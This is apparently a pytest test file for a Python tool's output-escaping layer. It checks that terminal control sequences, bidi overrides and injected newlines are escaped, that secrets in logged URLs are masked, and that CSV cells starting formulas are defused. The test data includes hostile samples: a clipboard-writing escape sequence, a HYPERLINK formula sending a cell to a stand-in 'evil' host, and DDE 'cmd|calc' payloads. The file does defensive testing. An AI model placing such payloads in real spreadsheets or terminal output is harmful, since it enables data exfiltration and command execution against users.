"""Whatever is printed: no terminal and no spreadsheet obeys it."""

import ast
import json
import logging
from pathlib import Path

import pytest

import dirjobs
from dirjobs.console.errors import say, show_log
from dirjobs.console.spreadsheet import as_typed, csv_line, defused
from dirjobs.console.text import TerminalText, json_text, printable, show, show_table

HOSTILE = "a\x1b]52;c;aGk=\x07b\x9b31mc\u202ed\u2066e\u200bf\x7fg\u2028h\nfake: done\r\U000e0041"
ESCAPED = r"a\x1b]52;c;aGk=\x07b\x9b31mc\u202ed\u2066e\u200bf\x7fg\u2028h\nfake: done\r\U000e0041"


def test_what_a_terminal_would_obey_is_escaped():
    assert printable(HOSTILE) == ESCAPED
    assert printable(printable(HOSTILE)) == ESCAPED
    assert printable("Jörg 李\u0301 👩 a b") == "Jörg 李\u0301 👩 a b"
    assert printable("\udc80") == r"\udc80"


def test_a_line_is_one_line(capsys):
    show(HOSTILE)
    show_table([("x", HOSTILE)])
    assert capsys.readouterr().out.splitlines() == [ESCAPED, f"x  {ESCAPED}"]


def test_what_is_said_and_logged_is_one_line(capsys, caplog):
    log = logging.getLogger("dirjobs")
    root = logging.getLogger()
    handlers, root.handlers = root.handlers, []  # as in a program of its own
    try:
        show_log(0)
        say(f"{HOSTILE} of https://me:secret@host/q")
        log.warning("%s of %s", HOSTILE, "https://me:secret@host/q")
        try:
            raise ValueError(HOSTILE)
        except ValueError:
            log.exception("oh")
        logging.getLogger("another").warning(HOSTILE)
    finally:
        root.handlers = handlers
    said, logged, *traceback, another = capsys.readouterr().err.splitlines()
    assert said.startswith(r"dirjobs: a\x1b]52;c;aGk=\x07b\x9b31mc\u202ed")
    assert said.endswith("of https://me:***@host/q")
    assert logged.startswith(r"dirjobs: a\x1b]52") and logged.endswith("of https://me:***@host/q")
    assert another.startswith(r"dirjobs: another: a\x1b]52")
    assert all(line.isprintable() for line in (said, logged, *traceback, another))


def test_json_is_escaped_as_json_does():
    document = {HOSTILE: [HOSTILE, "\udc80", "Jörg 👩", float("nan")]}
    for indent in (None, 1):
        printed = json_text(document, indent)
        assert all(line.isprintable() for line in printed.split("\n"))
        assert json.loads(printed) == {HOSTILE: [HOSTILE, "\udc80", "Jörg 👩", None]}
    assert r"\u202e" in printed
    assert r"\udb40\udc41" in printed
    assert "Jörg 👩" in printed


def test_a_log_on_a_terminal(capsys):
    with TerminalText() as output:
        for part in (b"10 %\r20 %\r", b"\ndone\tJ\xc3", b"\xb6rg \xff\x1b[2J\n", b"end\xe2\x80"):
            output.write(part)
    assert capsys.readouterr().out == "10 %\n20 %\ndone\tJörg \\xff\\x1b[2J\nend\\xe2\\x80"


@pytest.mark.parametrize(
    ("cell", "defuse"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', True),
        ("+1+cmd|calc", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("  =1", True),
        ("\uff1d1", True),
        ("-rf", True),
        ("-", True),
        ("", False),
        ("a=b", False),
        ("-0.5", False),
        ("+1e-5", False),
        ("-1,5", False),
        ("-Infinity", False),
        ("a;b", False),
        ("1;-2", False),
    ],
)
def test_no_cell_is_a_formula(cell, defuse):
    assert defused(cell) == (f"'{cell}" if defuse else cell)


def test_no_part_of_a_cell_is_a_formula_where_semicolons_separate():
    assert defused('x;=cmd|calc;"') == "x;'=cmd|calc;\""
    assert csv_line(["a\n=1", '"x", y', "-1"]) == r'a\n=1,"""x"", y",-1'
    assert as_typed(["=1", "a\nb", "\r"]) == '=1,"a\nb","\r"'


def test_one_place_prints():
    """All others go through it: what somebody adds can't forget to escape."""
    root = Path(dirjobs.__file__).parent
    allowed = {
        "console/text.py",  # the place
        "console/errors.py",  # what goes to standard error
        "cli/commands/completion.py",  # click's script for a shell
        "cli/commands/logs.py",  # bytes, for files and pipes
        "cli/commands/demo_job.py",  # what users write
        "functions/interpreter.py",  # its output is the log of a call
        "testing/races.py",  # letters between processes
    }
    found = set()
    for file in root.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and _prints(node.func):
                found.add(file.relative_to(root).as_posix())
    assert found - allowed == set()
    assert "console/text.py" in found


def _prints(function):
    """Whether this is print, click.echo, or something of sys.stdout or sys.stderr."""
    if isinstance(function, ast.Name):
        return function.id in ("print", "echo", "secho")
    if not isinstance(function, ast.Attribute) or function.attr == "isatty":
        return False
    if isinstance(function.value, ast.Name):
        return function.value.id == "click" and function.attr in ("echo", "secho")
    of = function.value
    while isinstance(of, ast.Attribute):
        if of.attr in ("stdout", "stderr") and isinstance(of.value, ast.Name):
            return of.value.id == "sys"
        of = of.value
    return False
